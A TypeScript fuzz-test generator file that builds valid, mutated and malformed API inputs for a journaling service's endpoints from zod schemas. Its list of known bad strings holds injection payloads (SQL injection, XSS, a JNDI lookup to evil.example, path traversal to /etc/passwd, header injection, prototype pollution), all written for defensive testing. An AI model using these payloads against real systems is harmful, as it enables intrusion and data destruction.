import fc from 'fast-check';
import type { z } from 'zod';

/**
 * Generators for the API fuzz (`fuzz.test.ts`): payloads shaped like the shared zod schemas, the
 * same payloads with hostile fields, arbitrary JSON and bytes that are not JSON at all.
 */

type ZodDef = {
  type: string;
  shape?: Record<string, z.ZodType>;
  innerType?: z.ZodType;
  element?: z.ZodType;
  in?: z.ZodType;
  out?: z.ZodType;
  entries?: Record<string, string>;
  format?: string;
  pattern?: RegExp;
  coerce?: boolean;
  checks?: {
    _zod: { def: { check: string; minimum?: number; maximum?: number; format?: string; pattern?: RegExp } };
  }[];
};

const defOf = (schema: z.ZodType) => (schema as unknown as { _zod: { def: ZodDef } })._zod.def;
const checksOf = (def: ZodDef, check: string) =>
  (def.checks ?? []).map((c) => c._zod.def).filter((c) => c.check === check);
/** The tightest bound when a schema states several (`.min(1, 'required').min(8, 'tooShort')`). */
const minLengthOf = (def: ZodDef) => Math.max(0, ...checksOf(def, 'min_length').map((c) => c.minimum ?? 0));
const maxLengthOf = (def: ZodDef, fallback: number) => {
  const maxima = checksOf(def, 'max_length').map((c) => c.maximum ?? fallback);
  return maxima.length > 0 ? Math.min(...maxima) : fallback;
};
const isOptional = (schema: z.ZodType) => ['optional', 'default'].includes(defOf(schema).type);

/** Words as people type them into a journal: chat spellings, both languages, emoji. */
const CHAT_WORDS = [
  'im',
  'dont',
  'cant',
  'u',
  'ur',
  'idk',
  'I',
  'feel',
  'like',
  'a',
  'failure',
  'everyone',
  'leaves',
  'me',
  'sad',
  'tired',
  'alone',
  'work',
  'mom',
  'no sé',
  'me siento',
  'sola',
  'trabajo',
  'nadie',
  '😭',
  '😀',
  '💔',
  '🙃',
  '👨‍👩‍👧',
  '...',
  '!!',
  '?',
  '\n',
];

export const chatText = (maxLength: number) =>
  fc
    .array(fc.constantFrom(...CHAT_WORDS), { minLength: 1, maxLength: 30 })
    .map((words) => words.join(' ').slice(0, maxLength));

/** Text people write: any script, emoji and combining marks, not only ASCII. */
const humanText = (minLength: number, maxLength: number) =>
  fc.oneof(
    fc.string({ unit: 'grapheme', minLength, maxLength }),
    fc.string({ unit: 'grapheme-ascii', minLength, maxLength }),
    ...(minLength <= 1 ? [chatText(maxLength)] : []),
  );

/** A value the schema accepts (refinements such as "no duplicates" aside): the realistic half of the fuzz. */
export function arbitraryFromSchema(schema: z.ZodType): fc.Arbitrary<unknown> {
  const def = defOf(schema);
  switch (def.type) {
    case 'object': {
      const shape = def.shape ?? {};
      const model = Object.fromEntries(Object.entries(shape).map(([key, field]) => [key, arbitraryFromSchema(field)]));
      const requiredKeys = Object.keys(shape).filter((key) => !isOptional(shape[key]!));
      return fc.record(model, { requiredKeys });
    }
    case 'optional':
    case 'default':
      return arbitraryFromSchema(def.innerType!);
    case 'nullable':
      return fc.option(arbitraryFromSchema(def.innerType!), { nil: null, freq: 5 });
    case 'pipe':
      // A string piped into a format (the email) is generated from the format; into a transform, from the input.
      return arbitraryFromSchema(defOf(def.out!).type === 'transform' ? def.in! : def.out!);
    case 'array':
      return fc.array(arbitraryFromSchema(def.element!), {
        minLength: minLengthOf(def),
        maxLength: maxLengthOf(def, 5),
      });
    case 'enum':
      return fc.constantFrom(...Object.values(def.entries ?? {}));
    case 'boolean':
      return fc.boolean();
    case 'number':
      return numberFromSchema(schema as z.ZodNumber, def);
    case 'string':
      return stringFromSchema(def);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function numberFromSchema(schema: z.ZodNumber, def: ZodDef): fc.Arbitrary<unknown> {
  const min = Number.isFinite(schema.minValue) ? schema.minValue! : -1_000_000;
  const max = Number.isFinite(schema.maxValue) ? schema.maxValue! : 1_000_000;
  const value = schema.isInt ? fc.integer({ min, max }) : fc.double({ min, max, noNaN: true });
  return def.coerce ? value.map(String) : value;
}

function stringFromSchema(def: ZodDef): fc.Arbitrary<string> {
  if (def.format === 'email') {
    const plain = fc.tuple(fc.stringMatching(/^[a-z][a-z0-9.+_-]{0,20}$/), fc.constantFrom('example.com', 'correo.mx'));
    return fc.oneof(
      plain.map(([local, domain]) => `${local}@${domain}`),
      ...(def.pattern ? [fc.stringMatching(def.pattern).filter((email) => email.length <= 254)] : []),
    );
  }
  if (def.format === 'uuid') return fc.uuid();
  const maxLength = Math.min(maxLengthOf(def, 60), 600);
  const minLength = Math.min(minLengthOf(def), maxLength);
  const pattern = checksOf(def, 'string_format')[0]?.pattern;
  if (pattern) return fc.stringMatching(pattern).filter((text) => text.length <= maxLength);
  return humanText(minLength, maxLength);
}

/**
 * JSON.stringify cannot write some tokens a hostile client can (1e400 parses to Infinity, deep
 * nesting, duplicate keys): a value holds a placeholder string that `toJsonText` swaps for them.
 */
const RAW_TOKENS = [
  '1e400',
  '-1e400',
  '1E-400',
  '123456789012345678901234567890',
  '-0.0',
  '0e0',
  '{"__proto__":{"isAdmin":true,"role":"admin"}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"a":1,"a":2}',
  `${'['.repeat(2_000)}${']'.repeat(2_000)}`,
  `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
];
const rawToken = (index: number) => `@@raw:${index}@@`;

export function toJsonText(value: unknown): string {
  // JSON.stringify(undefined) is undefined, whatever its type says; a client would send null.
  const text = value === undefined ? 'null' : JSON.stringify(value);
  return text.replace(/"@@raw:(\d+)@@"/g, (_, index: string) => RAW_TOKENS[Number(index)]!);
}

const CONTROL_CHARACTERS = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007f\u0085';
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code));

/** Strings that have broken parsers, databases, loggers and renderers elsewhere. */
const knownBadStrings = fc.constantFrom(
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  CONTROL_CHARACTERS,
  'line\r\nSet-Cookie: injected=1',
  '\uD800',
  'a\uDFFFb',
  '\u202Egnp.exe',
  '\u200B\u200D\uFEFF',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e308',
  '-1',
  ' 3 ',
  '0x1F',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  "'); DROP TABLE check_ins;--",
  "' OR '1'='1",
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '%00%E0%A4%A',
  'https://evil.example',
  '//evil.example',
  'javascript:alert(1)',
  'user@example.com\u0000@evil.example',
  'Z̴̡͈̈́a̵͖̚l̴̰̈g̸͇̋ö̴̜́',
  '😀😀 im',
);

/** Rare, because every one costs time to send: past the field limits, and past the 1 MiB body limit. */
const hugeStrings = fc.constantFrom('😀'.repeat(5_000), 'x'.repeat(10_000), 'é'.repeat(600_000));

const unitString = fc.string({
  unit: fc.oneof(
    loneSurrogate,
    fc.constantFrom(...CONTROL_CHARACTERS),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  ),
  maxLength: 40,
});

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: knownBadStrings, weight: 8 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 3 },
  { arbitrary: unitString, weight: 3 },
  { arbitrary: hugeStrings, weight: 1 },
);

/** For URLs and headers, where a client could not send a megabyte anyway. */
export const shortHostileString = hostileString.map((text) => text.slice(0, 200));

const hostileNumber = fc.oneof(
  fc.constantFrom(0, -0, -1, 1.5, 2.5, 1e308, -1e308, 5e-324, 2 ** 53 + 1, -(2 ** 31), 1e21),
  fc.integer(),
  fc.double(), // NaN and ±Infinity become null in JSON
);

const hostileLeaf = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hostileNumber,
  hostileString,
  fc.integer({ min: 0, max: RAW_TOKENS.length - 1 }).map(rawToken),
);

/** A value of the wrong type, size or shape for any field. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileLeaf, weight: 6 },
  { arbitrary: fc.array(hostileLeaf, { maxLength: 4 }), weight: 1 },
  { arbitrary: fc.dictionary(hostileString, hostileLeaf, { maxKeys: 3 }), weight: 1 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 1 },
  { arbitrary: fc.integer({ min: 1, max: 200 }).map(nestedArrays), weight: 1 },
);

function nestedArrays(depth: number): unknown {
  let value: unknown = 'deep';
  for (let level = 0; level < depth; level += 1) value = level % 2 ? [value] : { value };
  return value;
}

const POLLUTION_KEYS = ['__proto__', 'constructor', 'prototype', 'user_id', 'userId', 'id', 'created_at', 'role'];

type Mutation = { kind: 'set' | 'delete' | 'wrap'; pathIndex: number; key: string; value: unknown };

const mutation: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constantFrom('set', 'set', 'set', 'delete', 'wrap'),
  pathIndex: fc.nat(),
  key: fc.oneof(fc.constantFrom(...POLLUTION_KEYS), fc.string({ maxLength: 12 })),
  value: hostileValue,
});

/** Every object inside a value, with the keys it holds: where a mutation may land. */
function objectsIn(value: unknown, found: Record<string, unknown>[] = []): Record<string, unknown>[] {
  if (Array.isArray(value)) for (const item of value) objectsIn(item, found);
  else if (value && typeof value === 'object') {
    found.push(value as Record<string, unknown>);
    for (const child of Object.values(value)) objectsIn(child, found);
  }
  return found;
}

/** Own enumerable key even for "__proto__", so JSON.stringify writes it as a client could. */
function setOwn(target: Record<string, unknown>, key: string, value: unknown) {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

function applyMutations(valid: unknown, mutations: Mutation[], existingOnly: boolean): unknown {
  let root: unknown = structuredClone(valid);
  for (const change of mutations) {
    const objects = objectsIn(root);
    const target = objects[change.pathIndex % Math.max(objects.length, 1)];
    if (!target) return change.value;
    const keys = Object.keys(target);
    const existing = keys[change.pathIndex % Math.max(keys.length, 1)];
    if (change.kind === 'delete' && existing) delete target[existing];
    else if (change.kind === 'wrap' && existing) target[existing] = [target[existing]];
    else if (change.kind === 'wrap') root = [root];
    else setOwn(target, (existingOnly || change.pathIndex % 2) && existing ? existing : change.key, change.value);
  }
  return root;
}

/** A valid payload with one to three fields changed, removed, wrapped in arrays or (unless `existingOnly`) added. */
export const mutatedFrom = (valid: fc.Arbitrary<unknown>, existingOnly = false) =>
  fc
    .tuple(valid, fc.array(mutation, { minLength: 1, maxLength: 3 }))
    .map(([payload, mutations]) => applyMutations(payload, mutations, existingOnly));

export type FuzzBody = { body: string | Uint8Array; contentType: string | undefined };

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/xml',
  '',
  undefined,
];

/** Bytes that are not JSON: truncated documents, single quotes, invalid UTF-8, form encoding. */
const notJson: fc.Arbitrary<string | Uint8Array> = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '{"feeling_text":',
    "{'a':1}",
    '{"a":1,}',
    'undefined',
    'NaN',
    '{"a":1}{"b":2}',
    '\uFEFF{}',
    'email=a%40b.co&password=x',
    '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--\r\n',
    '['.repeat(100_000),
  ),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.uint8Array({ maxLength: 64 }),
  fc.constantFrom(
    new Uint8Array([0xff, 0xfe, 0x7b, 0x7d]),
    new Uint8Array([0x7b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x3a, 0x31, 0x7d]),
  ),
);

/**
 * The bodies each endpoint receives: mostly its own payload with hostile fields, some untouched,
 * arbitrary JSON, and raw text or bytes under any content type. Where a body that passes
 * validation costs a password hash (~0.1 s of scrypt), mutations replace fields rather than add
 * them and untouched payloads are rare, so most of the 1,000 requests probe the validation.
 */
export function fuzzBodies(
  valid: fc.Arbitrary<unknown>,
  options: { hashesPassword?: boolean } = {},
): fc.Arbitrary<FuzzBody> {
  const hashes = options.hashesPassword ?? false;
  const json = (value: fc.Arbitrary<unknown>) =>
    value.map((payload): FuzzBody => ({ body: toJsonText(payload), contentType: 'application/json' }));
  return fc.oneof(
    { arbitrary: json(valid), weight: hashes ? 1 : 10 },
    { arbitrary: json(mutatedFrom(valid, hashes)), weight: hashes ? 10 : 60 },
    { arbitrary: json(hostileValue), weight: 10 },
    { arbitrary: json(fc.jsonValue()), weight: 10 },
    {
      arbitrary: fc.record({
        body: hashes ? notJson : fc.oneof(notJson, valid.map(toJsonText)),
        contentType: fc.constantFrom(...CONTENT_TYPES),
      }),
      weight: 10,
    },
  );
}

const asQueryValue = (value: unknown) =>
  (typeof value === 'object' && value !== null ? toJsonText(value) : String(value)).slice(0, 200);

/** Query strings: the schema's own values, hostile ones, repeated keys, array syntax, broken escapes. */
export function fuzzQuery(valid: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<string> {
  const fromObject = (value: unknown) =>
    new URLSearchParams(
      Object.entries(value && typeof value === 'object' ? value : {}).map(([key, v]) => [key, asQueryValue(v)]),
    ).toString();
  const pairs = fc.array(
    fc.tuple(fc.oneof(fc.constantFrom('page', 'page_size', 'token', 'page[]'), shortHostileString), shortHostileString),
    {
      maxLength: 4,
    },
  );
  return fc.oneof(
    { arbitrary: valid.map(fromObject), weight: 3 },
    { arbitrary: mutatedFrom(valid).map(fromObject), weight: 4 },
    { arbitrary: pairs.map((entries) => new URLSearchParams(entries).toString()), weight: 3 },
    {
      arbitrary: fc.constantFrom('page=1&page=2', 'page=%', 'page=%E0%A4%A', 'page=%00', '&&==&', 'a'.repeat(8_000)),
      weight: 1,
    },
  );
}

/** Accept-Language values, well-formed or not: every error message goes through the locale. */
export const acceptLanguage = fc.constantFrom(
  undefined,
  'es',
  'es-MX,es;q=0.9',
  'en-US,en;q=0.8',
  '*',
  'xx;q=abc',
  ',,,;',
  'ES',
);
